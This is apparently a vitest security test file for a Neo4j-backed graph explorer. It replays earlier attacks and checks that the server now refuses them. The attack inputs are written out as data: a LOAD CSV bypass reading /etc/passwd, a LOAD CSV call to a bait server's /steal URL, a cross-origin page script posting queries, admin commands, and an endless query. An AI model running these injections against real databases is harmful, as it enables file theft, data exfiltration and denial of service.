/**
 * The attacks of issue 10 against a real Neo4j (tests/setup/neo4j.ts), a real explorer server
 * and Debian's Chromium: each one failed before the server-side lock-down.
 */
import { spawn } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { openSession } from '../../graph/neo4j/driver.ts';
import { runQuery } from '../../graph/neo4j/query.ts';
import { runnerFor } from '../../web/server/cypher.ts';
import type { CypherRunner } from '../../web/server/plugin.ts';
import { FIXTURE_GRAPH } from '../../web/server/config.ts';
import { useTestDatabase } from '../neo4j/helpers.ts';
import { freePort, startExplorer, waitForExplorer, type ExplorerServer } from '../kit/browser.ts';
import { useExplorer } from '../e2e/use-explorer.ts';

const connection = useTestDatabase();
const READ_PASSWD = "WITH '//' AS s LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line";
const ENDLESS = 'UNWIND range(1, 10000000000) AS x WITH x WHERE x < 0 RETURN x';
let patient: ExplorerServer;
let calls = 0;
let bait: { server: Server; url: string; hits: number };

/** The explorer under attack and the browser, each test loading the page it needs. */
const explorer = useExplorer(
  () => {
    const counted =
      (runner: CypherRunner): CypherRunner =>
      (q, o) => (calls++, runner(q, o));
    return {
      graphPath: FIXTURE_GRAPH,
      cypher: counted(runnerFor(connection(), { limits: { timeoutMs: 3000, maxRows: 1000 } })),
    };
  },
  { open: false },
);

/** The page token the explorer at `url` wrote into its page, as the page itself would read it. */
async function tokenOf(url: string): Promise<string> {
  const html = await (await fetch(url)).text();
  return /<meta name="tupu-token" content="([^"]+)"/.exec(html)?.[1] ?? '';
}

async function post(url: string, query: string, headers: Record<string, string> = {}) {
  const res = await fetch(`${url}api/cypher`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'x-tupu-token': await tokenOf(url),
      ...headers,
    },
    body: JSON.stringify({ query }),
  });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

beforeAll(async () => {
  patient = await startExplorer({
    graphPath: FIXTURE_GRAPH,
    cypher: runnerFor(connection(), { limits: { timeoutMs: 120_000, maxRows: 1000 } }),
  });
  // A web server on another port: another origin, and a target for LOAD CSV to phone home.
  const port = await freePort();
  bait = { server: createServer(), url: `http://127.0.0.1:${port}/`, hits: 0 };
  bait.server.on('request', (req, res) => {
    if (req.url?.startsWith('/steal')) bait.hits++;
    res.setHeader('content-type', 'text/html');
    res.end(`<script>
      const q = ${JSON.stringify(READ_PASSWD)};
      window.attempts = Promise.allSettled([
        fetch(${JSON.stringify(explorer.url() + 'api/cypher')}, { method: 'POST',
          headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ query: q }) }),
        fetch(${JSON.stringify(explorer.url() + 'api/cypher')}, { method: 'POST', mode: 'no-cors',
          body: JSON.stringify({ query: 'MATCH (n) RETURN n' }) }),
        fetch(${JSON.stringify(explorer.url() + 'api/cypher')}, { method: 'POST',
          headers: { 'content-type': 'application/json', 'x-tupu-token': 'guess' },
          body: JSON.stringify({ query: q }) }),
      ]).then((r) => r.map((x) => x.status));
    </script>`);
  });
  await new Promise<void>((ok) => bait.server.listen(port, '127.0.0.1', ok));
});

afterAll(async () => {
  await patient?.close();
  await new Promise((ok) => bait?.server.close(ok));
});

describe('security: the Cypher box is read-only, enforced by Neo4j', () => {
  it('refuses the comment-in-a-string LOAD CSV bypass in the box, and shows no file content', async () => {
    const page = explorer.page();
    await page.goto(explorer.url());
    await waitForExplorer(page);
    await page.click('[data-testid=cypher] summary');
    await page.fill('[data-testid=cypher] textarea', READ_PASSWD);
    await page.click('[data-testid=cypher-run]');
    const out = page.locator('[data-testid=cypher-output]');
    await out.waitFor();
    expect(await out.textContent()).toMatch(/read-only: LOAD CSV is not allowed/);
    expect(await out.textContent()).not.toMatch(/root:/);
  });

  it('refuses TERMINATE TRANSACTIONS, SHOW USERS and writes through the API', async () => {
    for (const [query, why] of [
      ["TERMINATE TRANSACTIONS 'neo4j-transaction-1'", /TerminateTransactions/],
      ['SHOW USERS', /administration/],
      ['CALL dbms.listConfig() YIELD name RETURN name', /procedure dbms.listConfig/],
      ['CREATE (n:Person {key: "x"}) RETURN n', /this query writes/],
    ] as const) {
      const { status, body } = await post(explorer.url(), query);
      expect(status, query).toBe(400);
      expect(String(body.error), query).toMatch(why);
    }
  });

  it('answers its own page only: a page on another origin never reaches Neo4j', async () => {
    const before = calls;
    const page = await explorer.browser().context.newPage();
    await page.goto(bait.url);
    const statuses = await page.evaluate(() => (window as never as { attempts: unknown }).attempts);
    await page.close();
    expect(statuses).toHaveLength(3);
    expect(calls).toBe(before);
    const foreign = await post(explorer.url(), 'MATCH (n) RETURN n', {
      origin: 'http://evil.example',
    });
    expect(foreign.status).toBe(403);
    const noToken = await post(explorer.url(), 'MATCH (n) RETURN n', { 'x-tupu-token': '' });
    expect(noToken.status).toBe(403);
    expect(calls).toBe(before);
  });

  it('caps a 30-million-row result and keeps serving', async () => {
    const rss = process.memoryUsage().rss;
    const big = await post(explorer.url(), 'UNWIND range(1, 30000000) AS x RETURN x');
    expect(big.status).toBe(200);
    expect(big.body).toMatchObject({ truncated: true, rows: 1000 });
    expect(process.memoryUsage().rss - rss).toBeLessThan(512 * 1024 * 1024);
    expect((await post(explorer.url(), 'MATCH (n) RETURN count(n)')).status).toBe(200);
  });

  it('cancels a never-ending query at the timeout', async () => {
    const { status, body } = await post(explorer.url(), ENDLESS);
    expect(status).toBe(400);
    expect(String(body.error)).toMatch(/3 s timeout/);
  });

  it('terminates the query on the server when the browser goes away', async () => {
    const gone = new AbortController();
    const token = await tokenOf(patient.url);
    const request = fetch(`${patient.url}api/cypher`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-tupu-token': token },
      body: JSON.stringify({ query: ENDLESS }),
      signal: gone.signal,
    }).catch(() => 'aborted');
    const running = () => countRunning('range(1, 10000000000)');
    await waitFor(async () => (await running()) === 1, 15_000);
    gone.abort();
    expect(await request).toBe('aborted');
    await waitFor(async () => (await running()) === 0, 10_000);
  });
});

describe('security: the server itself refuses LOAD CSV from files and the network', () => {
  const local = () => inject('neo4jLocal') !== null;

  it('refuses file URLs even to a writing query', async () => {
    if (!local()) return; // a server named by NEO4J_URI has its own settings
    await expect(
      runQuery(
        connection(),
        "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
        {},
        { write: true },
      ),
    ).rejects.toThrow(/allow_csv_import_from_file_urls/);
  });

  it('refuses to fetch a URL, so nothing read can be sent anywhere', async () => {
    if (!local()) return;
    const query = `LOAD CSV FROM '${bait.url}steal?x=1' AS l RETURN l`;
    await expect(runQuery(connection(), query, {}, { write: true })).rejects.toThrow(/blocked/);
    expect(bait.hits).toBe(0);
  });

  it('tupu query without --write refuses the file read in one line', async () => {
    const { code, stderr } = await cli(['query', READ_PASSWD]);
    expect(code).toBe(1);
    expect(stderr.trim().split('\n')).toHaveLength(1);
    expect(stderr).toMatch(/read-only: LOAD CSV is not allowed/);
    const terminate = await cli(['query', "TERMINATE TRANSACTIONS 'neo4j-transaction-1'"]);
    expect(terminate.stderr).toMatch(/TerminateTransactions is not allowed/);
  });
});

async function countRunning(fragment: string): Promise<number> {
  const session = openSession(connection(), 'READ');
  try {
    const r = await session.run(
      'SHOW TRANSACTIONS YIELD currentQuery WHERE currentQuery CONTAINS $f AND NOT currentQuery STARTS WITH "SHOW" RETURN count(*) AS n',
      { f: fragment },
    );
    return Number(r.records[0]!.get('n'));
  } finally {
    await session.close();
  }
}

async function waitFor(test: () => Promise<boolean>, timeoutMs: number): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await test())) {
    if (Date.now() > deadline)
      throw new Error(`tests/security: condition not met in ${timeoutMs} ms`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

function cli(args: string[]): Promise<{ code: number | null; stderr: string }> {
  return new Promise((done) => {
    const child = spawn(process.execPath, [resolve('bin/tupu.js'), ...args], {
      env: { ...process.env, NEO4J_URI: inject('neo4jUri') },
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    child.on('close', (code) => done({ code, stderr }));
  });
}
